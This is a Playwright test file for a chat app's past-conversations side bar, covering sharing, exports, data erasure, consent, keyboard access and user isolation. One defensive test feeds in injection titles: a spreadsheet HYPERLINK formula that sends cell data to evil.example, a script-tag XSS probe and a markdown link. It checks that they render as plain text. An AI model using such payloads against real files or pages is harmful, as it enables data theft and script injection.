"""The side bar in a real browser: wide and on a phone, light and dark, by keyboard alone, and two people at once."""

import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

import db
from tests.browser.conftest import PHONE, Chat, Server
from tests.chat.answers import HOSTILE

pytestmark = pytest.mark.browser
QUESTION = "who directed Jaws?"
OTHER = "films starring Emil Gray"
BOTH = re.compile("^(Jaws and Night Train|Night Train and Jaws)$")
WIDE = {"width": 1280, "height": 860}
TITLES = (
    HOSTILE,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "<script>alert(1)</script>",
    "**b** # h [a](http://evil.example)",
)
LOOKS = [pytest.param(WIDE, "light", id="1280-light"), pytest.param(PHONE, "dark", id="390-dark")]


class Bar:
    """The side bar as a person uses it."""

    def __init__(self, chat: Chat) -> None:
        self.chat, self.page = chat, chat.page

    @property
    def toggle(self) -> Locator:
        return self.page.get_by_role("button", name="Past conversations", exact=True)

    @property
    def rows(self) -> Locator:
        return self.page.locator("#shelf button.open")

    @property
    def said(self) -> Locator:
        return self.page.locator("#aside")

    def row(self, title: str) -> Locator:
        return self.rows.filter(has=self.page.locator(".title").get_by_text(title, exact=True))

    def open(self) -> "Bar":
        expect(self.toggle).to_be_visible()
        self.page.wait_for_timeout(600)
        if self.toggle.get_attribute("aria-expanded") != "true":
            self.toggle.click()
        expect(self.toggle).to_have_attribute("aria-expanded", "true")
        return self

    def new_chat(self) -> None:
        self.open()
        self.page.get_by_role("button", name="New chat").click()
        expect(self.chat.cards).to_have_count(0)

    def manage(self, title: str) -> None:
        self.open()
        self.page.get_by_role("button", name=f"Rename, share, save or delete: {title}").click()
        expect(self.page.get_by_label("Title", exact=True)).to_have_value(title)

    def press(self, name: str) -> None:
        self.page.get_by_role("button", name=name, exact=True).click()

    @property
    def address(self) -> str:
        """Where the link of the conversation leads."""
        link = self.page.get_by_role("link", name="Open it", exact=True)
        expect(link).to_have_attribute("href", re.compile(r"shared/[\w-]{43}$"))
        return str(link.evaluate("link => link.href"))

    def share(self) -> str:
        self.press("Make a link")
        return self.address

    def saved(self, name: str) -> tuple[str, str]:
        """The name and the text of what a link downloads."""
        with self.page.expect_download() as download:
            self.page.get_by_role("link", name=name, exact=True).click()
        return download.value.suggested_filename, Path(download.value.path()).read_text(encoding="utf-8")


@pytest.fixture
def people(films: Server, browser: Browser) -> Iterator[Any]:
    """Makes people: each has a browser of their own; none may leave the host or see an error."""
    chats: list[Chat] = []

    def person(size: dict[str, int] | None = None, color: Any = "light") -> Bar:
        context = browser.new_context(viewport=size or WIDE, color_scheme=color)  # type: ignore[arg-type]
        chats.append(Chat(context.new_page(), films).open())
        return Bar(chats[-1])

    yield person
    for chat in chats:
        chat.page.context.close()
        assert chat.foreign == []
        assert chat.errors == []


def retitle(server: Server, known: str, *titles: str) -> None:
    """Copies of the conversation with the title `known`, under titles of any kind."""
    database = db.open_database(f"sqlite:///{server.database}")
    with database.writer() as session:
        source = session.query(db.Conversation).filter_by(title=known).one()
        ((turn, _),) = db.load_turns(session=session, conversation_id=source.id, visitor=source.visitor)
        for title in titles:
            copy = db.start_conversation(session=session, visitor=source.visitor, title=title)
            db.append_turn(
                session=session,
                conversation_id=copy.id,
                visitor=source.visitor,
                question=title,
                snapshot={**turn.snapshot, "question": title},
                model_version_id=turn.model_version_id,
            )
    database.close()


@pytest.mark.parametrize(("size", "color"), LOOKS)
def test_conversations_are_found_opened_renamed_and_deleted(people: Any, size: dict[str, int], color: str) -> None:
    bar: Bar = people(size, color)
    bar.chat.ask(QUESTION)
    bar.new_chat()
    bar.chat.ask(OTHER)
    bar.open()
    expect(bar.rows).to_have_count(2)
    expect(bar.row(OTHER)).to_have_attribute("aria-current", "true")
    expect(bar.page.locator("#shelf h3")).to_have_text("Today")
    bar.page.get_by_label("Search your conversations").fill("JAWS")
    expect(bar.rows).to_have_count(1)
    bar.page.get_by_label("Search your conversations").fill("nobody")
    expect(bar.page.get_by_text("Nothing found for “nobody”.")).to_be_visible()
    bar.page.get_by_label("Search your conversations").fill("")
    expect(bar.rows).to_have_count(2)
    assert bar.page.evaluate("document.documentElement.scrollWidth") <= size["width"]
    bar.chat.shot(f"history-{size['width']}-{color}-list")
    bar.row(QUESTION).click()
    expect(bar.chat.cards.locator(".said")).to_have_text("Ana Sol")
    bar.manage(QUESTION)
    bar.chat.shot(f"history-{size['width']}-{color}-manage")
    bar.page.get_by_label("Title", exact=True).fill("A shark")
    bar.press("Save title")
    expect(bar.said).to_contain_text("Renamed")
    bar.press("Delete this conversation")
    bar.press("Keep")
    expect(bar.page.get_by_role("button", name="Delete for good")).to_have_count(0)
    bar.press("Delete this conversation")
    bar.press("Delete for good")
    expect(bar.said).to_contain_text("Deleted")
    expect(bar.chat.cards).to_have_count(0)
    expect(bar.rows).to_have_count(1)
    bar.chat.reload()
    bar.open()
    expect(bar.rows.locator(".title")).to_have_text([OTHER])


@pytest.mark.parametrize(("size", "color"), LOOKS)
def test_your_data_is_seen_saved_and_erased(people: Any, films: Server, size: dict[str, int], color: str) -> None:
    bar: Bar = people(size, color)
    bar.chat.ask("release year of Jaws")
    bar.page.get_by_role("button", name="Like", exact=True).click()
    expect(bar.page.get_by_text("May your votes and corrections be used")).to_be_visible()
    bar.chat.shot(f"history-{size['width']}-{color}-asks")
    bar.press("No")
    expect(bar.page.get_by_text("May your votes and corrections be used")).to_have_count(0)
    bar.open()
    bar.press("Your data")
    expect(bar.page.locator("#stored")).to_contain_text("1 conversation, 1 question, 1 vote, 0 links")
    consent = bar.page.get_by_label("My votes and corrections may be used")
    expect(consent).not_to_be_checked()
    bar.chat.shot(f"history-{size['width']}-{color}-data")
    name, text = bar.saved("Save everything (JSON)")
    data = json.loads(text)
    assert (name, data["conversations"][0]["turns"][0]["feedback"]["rating"]) == ("everything-about-me.json", 1)
    with bar.page.context.expect_page() as opened:
        bar.page.get_by_role("link", name="See everything").click()
    expect(opened.value.get_by_role("heading", name="Everything stored about you")).to_be_visible()
    expect(opened.value.locator(".opinion")).to_have_text("Thumb up.")
    opened.value.close()
    bar.press("Erase everything about me")
    bar.press("Erase for good")
    expect(bar.said).to_contain_text("erased")
    expect(bar.chat.cards).to_have_count(0)
    assert rows_of(films, data["visitor"]) == 0
    bar.chat.reload()
    bar.open()
    expect(bar.page.get_by_text("Nothing here yet.")).to_be_visible()


def rows_of(server: Server, visitor: str) -> int:
    """How many rows of the database name this visitor."""
    connection = sqlite3.connect(server.database)
    try:
        count = (
            "SELECT (SELECT count(*) FROM conversations WHERE visitor = ?) + (SELECT count(*) FROM feedback "
            "WHERE visitor = ?) + (SELECT count(*) FROM visitors WHERE id = ?)"
        )
        return int(connection.execute(count, [visitor] * 3).fetchone()[0])
    finally:
        connection.close()


@pytest.mark.parametrize(("size", "color"), LOOKS)
def test_a_link_is_read_by_another_person_until_it_is_revoked(people: Any, size: dict[str, int], color: str) -> None:
    bar: Bar = people(size, color)
    bar.chat.correct(bar.chat.ask(QUESTION), "a private correction")
    bar.manage(QUESTION)
    address = bar.share()
    other = people(size, color).page
    assert other.goto(address).status == 200  # type: ignore[union-attr]
    expect(other.get_by_role("heading", name=QUESTION).first).to_be_visible()
    expect(other.locator(".said")).to_have_text("Ana Sol")
    other.get_by_text("How I got this").click()
    expect(other.locator("svg.graph")).to_be_visible()
    assert "private" not in other.content()
    assert other.evaluate("document.documentElement.scrollWidth") <= size["width"]
    dark = other.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(19, 20, 19)"
    assert dark is (color == "dark")
    Chat(other, bar.chat.server).shot(f"history-{size['width']}-{color}-shared")
    bar.press("Stop sharing")
    expect(bar.said).to_contain_text("no longer works")
    response = other.request.get(address)
    assert (response.status, "This link does not work" in response.text()) == (404, True)
    assert "Ana Sol" not in response.text()


def test_the_link_is_shown_again_and_copied(people: Any) -> None:
    bar: Bar = people()
    bar.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    bar.chat.ask(QUESTION)
    bar.manage(QUESTION)
    address = bar.share()
    bar.press("‹ All conversations")
    expect(bar.row(QUESTION)).to_contain_text("shared")
    bar.chat.reload()
    bar.manage(QUESTION)
    assert bar.address == address
    bar.press("Copy link")
    expect(bar.page.get_by_role("button", name="Copied")).to_be_visible()
    assert bar.page.evaluate("navigator.clipboard.readText()") == address


def test_a_conversation_is_saved_as_markdown_and_json(people: Any) -> None:
    bar: Bar = people()
    bar.chat.ask(QUESTION)
    bar.manage(QUESTION)
    name, text = bar.saved("Markdown")
    assert (name, "**Ana Sol**" in text) == ("who-directed-jaws.md", True)
    name, text = bar.saved("JSON")
    (turn,) = json.loads(text)["turns"]
    assert (name, turn["answer"]["answers"][0]["label"]) == ("who-directed-jaws.json", "Ana Sol")


def test_hostile_titles_are_text_everywhere(people: Any, films: Server) -> None:
    bar: Bar = people()
    bar.chat.ask("in what role did Dora Finch play in Heat Wave")
    retitle(films, "in what role did Dora Finch play in Heat Wave", *TITLES)
    bar.chat.reload()
    bar.open()
    other: Page = people().page
    for title in TITLES:
        expect(bar.row(title)).to_have_count(1)
        bar.manage(title)
        other.goto(bar.share())
        expect(other.get_by_role("heading", level=1)).to_have_text(title)
        harmless(other)
        bar.saved("Markdown")
        bar.press("‹ All conversations")
    harmless(bar.page, "#history")
    bar.press("Your data")
    with bar.page.context.expect_page() as opened:
        bar.page.get_by_role("link", name="See everything").click()
    for title in TITLES:
        expect(opened.value.get_by_role("heading", level=2).get_by_text(title, exact=True)).to_have_count(1)
    harmless(opened.value)


def harmless(page: Page, within: str = "body") -> None:
    assert page.locator(f"{within} img, {within} script, {within} iframe, {within} form, {within} main a").count() == 0


def test_two_people_never_see_each_others_conversations(people: Any) -> None:
    ann, bob = people(), people()
    ann.chat.ask(QUESTION)
    bob.chat.ask(OTHER)
    for bar, own in ((ann, QUESTION), (bob, OTHER)):
        bar.chat.reload()
        bar.open()
        expect(bar.rows.locator(".title")).to_have_text([own])
    theirs = ann.rows.first.get_attribute("id") or ""
    for name in ("open", "manage"):
        bob.page.locator(f"#{name}-request").locator("textarea, input").evaluate(
            "(field, value) => { field.value = value; field.dispatchEvent(new Event('input', {bubbles: true})) }",
            f"{theirs.removeprefix('open-')} {name}",
        )
        expect(bob.said).to_contain_text("no longer there")
        expect(bob.chat.cards.locator(".said")).to_have_text(BOTH)
    expect(bob.page.locator("#history")).not_to_contain_text(QUESTION)


def test_everything_is_done_by_keyboard(people: Any) -> None:
    bar: Bar = people(PHONE)
    bar.chat.ask(QUESTION)
    keys = bar.page.keyboard
    bar.toggle.focus()
    keys.press("Enter")
    expect(bar.page.get_by_role("button", name="New chat")).to_be_focused()
    expect(bar.rows).to_have_count(1)
    keys.press("Tab")
    expect(bar.page.get_by_label("Search your conversations")).to_be_focused()
    keys.press("Tab")
    expect(bar.rows.first).to_be_focused()
    keys.press("Tab")
    expect(bar.page.get_by_role("button", name=f"Rename, share, save or delete: {QUESTION}")).to_be_focused()
    keys.press("Enter")
    expect(bar.page.get_by_role("button", name="‹ All conversations")).to_be_focused()
    keys.press("Tab")
    expect(bar.page.get_by_label("Title", exact=True)).to_be_focused()
    keys.press("Control+a")
    keys.type("Sharks")
    keys.press("Enter")
    expect(bar.said).to_contain_text("Renamed")
    bar.page.get_by_role("button", name="Make a link").press("Enter")
    expect(bar.page.get_by_role("button", name="Stop sharing")).to_be_focused()
    bar.page.get_by_role("button", name="Delete this conversation").press("Enter")
    expect(bar.page.get_by_role("button", name="Keep")).to_be_focused()
    keys.press("Enter")
    expect(bar.page.get_by_role("button", name="Delete this conversation")).to_be_focused()
    keys.press("Escape")
    expect(bar.page.get_by_role("button", name="Rename, share, save or delete: Sharks")).to_be_focused()
    keys.press("Escape")
    expect(bar.toggle).to_be_focused()
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    expect(bar.rows.first).to_be_hidden()


def test_on_a_phone_the_chat_comes_back_when_a_conversation_is_opened(people: Any) -> None:
    bar: Bar = people(PHONE)
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    bar.chat.ask(QUESTION)
    bar.new_chat()
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    bar.open()
    bar.row(QUESTION).click()
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    expect(bar.chat.cards.locator(".said")).to_be_in_viewport()


def test_on_a_wide_screen_it_stays_as_it_was_left(people: Any) -> None:
    bar: Bar = people()
    expect(bar.toggle).to_have_attribute("aria-expanded", "true")
    expect(bar.chat.box).to_be_focused()
    bar.toggle.click()
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    bar.chat.reload()
    bar.page.wait_for_timeout(1500)
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")


def test_it_makes_room_when_the_window_becomes_narrow(people: Any) -> None:
    bar: Bar = people()
    expect(bar.toggle).to_have_attribute("aria-expanded", "true")
    bar.page.set_viewport_size(PHONE)  # type: ignore[arg-type]
    expect(bar.toggle).to_have_attribute("aria-expanded", "false")
    expect(bar.chat.box).to_be_in_viewport()
    bar.page.set_viewport_size(WIDE)  # type: ignore[arg-type]
    expect(bar.toggle).to_have_attribute("aria-expanded", "true")


def test_all_conversations_are_deleted_and_consent_can_be_given_and_taken_back(people: Any) -> None:
    bar: Bar = people()
    bar.chat.ask(QUESTION)
    bar.open()
    consent = bar.page.get_by_label("My votes and corrections may be used")
    for given in (True, False):
        bar.press("Your data")
        consent.set_checked(given)
        expect(bar.said).to_contain_text("may be used" if given else "will not be used")
        bar.press("‹ All conversations")
        bar.press("Your data")
        assert consent.is_checked() is given
        bar.press("‹ All conversations")
    bar.press("Your data")
    bar.press("Delete all conversations")
    bar.press("Delete all for good")
    expect(bar.said).to_contain_text("1 conversation deleted")
    expect(bar.chat.cards).to_have_count(0)
    expect(bar.rows).to_have_count(0)


@pytest.mark.endurance
def test_the_history_outlives_a_restart(trained_model: Path, tmp_path: Path, page: Page) -> None:
    with Server(trained_model, tmp_path / "chat.db") as server:
        bar = Bar(Chat(page, server).open())
        bar.chat.ask(QUESTION)
        bar.manage(QUESTION)
        address = bar.share()
        server.stop()
        server.start()
        bar.chat.reload()
        bar.manage(QUESTION)
        assert bar.address == address
        assert page.request.get(address).status == 200
